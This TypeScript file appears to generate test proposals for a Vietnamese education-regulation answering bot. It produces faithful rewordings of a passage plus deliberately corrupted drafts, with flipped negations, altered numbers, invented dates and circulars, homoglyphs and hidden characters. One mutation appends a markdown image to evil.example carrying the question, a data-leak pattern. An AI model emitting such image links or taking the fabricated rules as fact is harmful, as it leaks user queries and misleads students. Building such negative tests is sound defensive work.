import { readLines, readSentences } from '#bot/conversation/passage-lines.ts'
import type { Hit } from '#knowledge/passage.ts'

/** What a model may propose for a passage; `wrong` says how it departs from the text, null where it does not. */
export interface Proposal {
  answer: string
  passages: number[]
  wrong: string | null
}

const LABEL = /^\s*(?:Điều\s+\d+[a-zđ]?\s*[.:]|\d+(?:\.\d+)*[.)]|[a-zđ][.)]|[-–—•*+])\s+/iu

/** The ways in which a faithful model words a passage: copied, without labels, with its address, politely, or only what an extract shows. */
export function faithful(hit: Hit, quotes: readonly string[]): Proposal[] {
  const { text, address } = hit.passage
  const lines = text.split('\n').filter((line) => line.trim() !== '')
  const bare = lines.map((line) => line.replace(LABEL, ''))
  const said = (answer: string): Proposal => ({ answer, passages: [1], wrong: null })
  const first = bare[0] ?? ''
  return [
    said(text),
    said(bare.join('\n')),
    said(bare.map((line) => `• ${line}`).join('\n')),
    said(bare.map((line) => line.replace(/[;,]$/, '.')).join('\n')),
    said(bare.map((line) => line.replace(/\.?$/, ' ạ.')).join('\n')),
    said(bare.join('\n').replaceAll('trung học phổ thông', 'THPT').replaceAll('căn cước công dân', 'CCCD')),
    ...(address ? [said([`Theo ${address}, ${lower(first)}`, ...bare.slice(1)].join('\n'))] : []),
    ...rotations(bare),
    ...(quotes.length > 0 && quotes.join('') !== text ? [said(quotes.join('\n'))] : [])
  ]
}

function rotations(bare: readonly string[]): Proposal[] {
  const [line] = bare
  const match = bare.length === 1 && /^(Nếu|Khi|Trường hợp|Đối với)([^,]+), ([^,]+?)\.?$/u.exec(line ?? '')
  if (!match) return []
  return [{ answer: `${upper(match[3] ?? '')} ${lower(match[1] ?? '')}${match[2]}.`, passages: [1], wrong: null }]
}

function lower(text: string): string {
  return text.slice(0, 1).toLowerCase() + text.slice(1)
}

function upper(text: string): string {
  return text.slice(0, 1).toUpperCase() + text.slice(1)
}

/** A change that makes a true text untrue, or null where the text offers no hold for it. */
type Mutation = (text: string) => string | null

const swap =
  (pattern: RegExp, by: (match: string) => string): Mutation =>
  (text) =>
    pattern.test(text) ? text.replace(pattern, by) : null
const beside = (from: string, to: string): Mutation => swap(new RegExp(`(?<!\\p{L})${from}(?!\\p{L})`, 'u'), () => to)

/** Each as a hostile or careless model would do it. */
export const MUTATIONS: Record<string, Mutation> = {
  'số lớn hơn một': swap(/\d+/, (n) => String(Number(n) + 1)),
  'số gấp mười': swap(/(?<![\d/])\d+(?![\d/])/, (n) => `${n}0`),
  'hai số đổi chỗ': (text) => {
    const numbers = [...new Set(text.match(/\d+/g) ?? [])]
    const [a, b] = numbers
    if (a === undefined || b === undefined) return null
    return text.replace(/\d+/g, (n) => (n === a ? b : n === b ? a : n))
  },
  'dấu trong số': swap(/(\d)[/:.,](\d)/, (m) => m.replace(/[/:.,]/, '-')),
  'ngày bịa': (text) => `${text.replace(/\.?\s*$/, '')} trước ngày 15/3/2027.`,
  'năm khác': swap(/20\d\d/, (y) => String(Number(y) - 1)),
  'tỷ lệ bịa': (text) => `${text.replace(/\.?\s*$/, '')}, tối đa 35%.`,
  'thêm không': (text) => beside('được', 'không được')(text) ?? beside('phải', 'không phải')(text),
  'bớt không': beside('không ', ''),
  'được thành phải': beside('được', 'phải'),
  'phải thành nên': beside('phải', 'nên'),
  'và thành hoặc': beside('và', 'hoặc'),
  'hoặc thành và': beside('hoặc', 'và'),
  'trước thành sau': beside('trước', 'sau'),
  'sau thành trước': beside('sau', 'trước'),
  'từ thành đến': beside('từ', 'đến'),
  'tối đa thành tối thiểu': beside('tối đa', 'tối thiểu'),
  'không quá thành ít nhất': beside('không quá', 'ít nhất'),
  'chỉ bị bỏ': beside('chỉ ', ''),
  'có thể bị bỏ': beside('có thể ', ''),
  'thêm chỉ': (text) => beside('được', 'chỉ được')(text),
  'thêm luôn': (text) => beside('được', 'luôn được')(text),
  'bỏ nửa sau': (text) => {
    const at = text.search(/[,;] /)
    return at > 20 && at < text.length - 20 ? `${text.slice(0, at)}.` : null
  },
  'bỏ nửa đầu': (text) => {
    const at = text.search(/[,;] /)
    return at > 20 && at < text.length - 20 ? upper(text.slice(at + 2)) : null
  },
  'bỏ điều kiện': swap(/,? (?:nếu|khi|trừ|đối với|trong trường hợp) [^.;]+/u, () => ''),
  'bỏ một chữ': (text) => {
    const words = text.split(' ')
    const at = words.findIndex((word, i) => i > 3 && /^\p{Ll}{4,}$/u.test(word) && !WEAK.has(word))
    return at === -1 ? null : words.toSpliced(at, 1).join(' ')
  },
  'bỏ dòng cuối': (text) => {
    const [lead, ...points] = text.split('\n')
    const isList = points.length > 1 && points.every((point) => /^[a-zđ]\)/u.test(point))
    return isList ? [lead, ...points.slice(0, -1)].join('\n') : null
  },
  'bỏ câu dẫn': (text) => {
    const lines = text.split('\n')
    return lines.length > 2 && lines[0]?.trimEnd().endsWith(':') ? lines.slice(1).join('\n') : null
  },
  'đổi chỗ hai dòng': (text) => {
    const [lead, a, b, ...rest] = text.split('\n')
    const parts = [a, b].map((line) => line?.split(':') ?? [])
    if (lead === undefined || parts.some((part) => part.length !== 2)) return null
    const crossed = [`${parts[0]?.[0]}:${parts[1]?.[1]}`, `${parts[1]?.[0]}:${parts[0]?.[1]}`]
    return [lead, ...crossed, ...rest].join('\n')
  },
  'khoản khác': (text) => `Theo khoản 9 Điều 99, ${lower(text)}`,
  'văn bản khác': (text) => `Theo Thông tư 77/2031/TT-BGDĐT, ${lower(text)}`,
  'thêm đường dẫn': (text) => `${text}\nXem https://tra-cuu.example/ket-qua`,
  'thêm ảnh': (text) => `${text}\n![x](http://evil.example/?q=cau-hoi)`,
  'thêm số điện thoại': (text) => `${text}\nLiên hệ 0912 345 678 để được hỗ trợ.`,
  'thêm nhận xét': (text) => `${text}\nQuy định này rất hợp lý.`,
  'thêm lời bịa': (text) => `${text}\nHọc sinh không phải nộp thêm giấy tờ nào khác.`,
  'mở đầu bằng có': (text) => `Có, ${lower(text)}`,
  'mở đầu bằng không': (text) => `Không, ${lower(text)}`,
  'nghe nói': (text) => `Hình như ${lower(text)}`,
  'thành câu hỏi': (text) => text.replace(/\.?\s*$/, '?'),
  'bỏ dấu': (text) => text.normalize('NFD').replace(/\p{M}/gu, '').replaceAll('đ', 'd').replaceAll('Đ', 'D'),
  'chữ giả': (text) => text.replace('o', 'о').replace('a', 'а'),
  'ký tự ẩn': (text) => `${text.slice(0, 10)}\u200b${text.slice(10)}`,
  'tiếng Anh': () => 'Candidates are allowed to enter the exam room without an identity card.',
  'tiếng Trung': () => '考生可以参加考试。',
  'lời của mô hình': (text) => `Tôi là mô hình ngôn ngữ. ${text}`,
  'đoạn khác': (text) => text
}
const WEAK = new Set(['việc', 'những', 'thuộc', 'rằng'])

/** Wrong drafts of a passage: of all of it, and of each of its sentences. */
export function wrongDrafts(hit: Hit, quotes: readonly string[]): Proposal[] {
  const { text } = hit.passage
  const bases = [
    text,
    ...readLines(text)
      .flatMap(({ words, end }) => readSentences(text, words, end))
      .map(({ start, end }) => text.slice(start, end))
  ]
  return Object.entries(MUTATIONS).flatMap(([wrong, mutate]) => {
    const answer = bases.map(mutate).find((mutated) => mutated !== null && !bases.includes(mutated))
    // a part of a list is half a truth only where the extract shows all of it
    if (wrong === 'bỏ dòng cuối' && !quotes.join('\n').includes(text.split('\n').at(-1) ?? '')) return []
    if (wrong === 'đoạn khác') return [{ answer: text, passages: [4], wrong }]
    return answer == null ? [] : [{ answer, passages: [1], wrong }]
  })
}
